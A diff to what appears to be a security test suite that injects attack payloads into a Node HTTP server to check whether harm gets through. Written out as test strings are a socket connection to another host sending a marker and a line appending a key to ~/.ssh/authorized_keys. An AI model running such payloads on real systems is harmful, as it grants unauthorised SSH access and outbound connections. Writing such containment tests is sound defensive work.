@@ -2,7 +2,7 @@
 // A node HTTP server and its tests under `node --test`: notes, uploads and sessions in files with random names, a port of its own.
 import { cpSync } from "node:fs";
 import { join } from "node:path";
-import { AUTHORIZED_KEYS, COMMON_ATTACKS, keyHarm } from "./lib/attacks.ts";
+import { emptyKeys, COMMON_ATTACKS, keyHarm, reachedListener } from "./lib/attacks.ts";
 import type { Attack, FreshRun, Workload } from "./lib/workload.ts";
 
 const FOLDER: string = join(import.meta.dirname, "node-server");
@@ -33,11 +33,11 @@ const HOST: Attack = {
     template(
       `const { connect } = await load("node:net"); return new Promise((done) => { const socket = connect(${port}, "${otherHost}", () => { socket.end("HARM"); done("connected"); }); socket.on("error", (error) => done(error.code)); })`,
     ),
-  harm: (_run, { heard }) => (heard.length > 0 ? "the listener was reached" : undefined),
+  harm: reachedListener,
 };
 const KEYS: Attack = {
   name: "the server writes ~/.ssh/authorized_keys",
-  ...(AUTHORIZED_KEYS.arrange === undefined ? {} : { arrange: AUTHORIZED_KEYS.arrange }),
+  arrange: emptyKeys,
   inject: () =>
     template(
       `return (await load("node:fs")).appendFileSync(process.env.HOME + "/.ssh/authorized_keys", "${KEY}\\n")`,
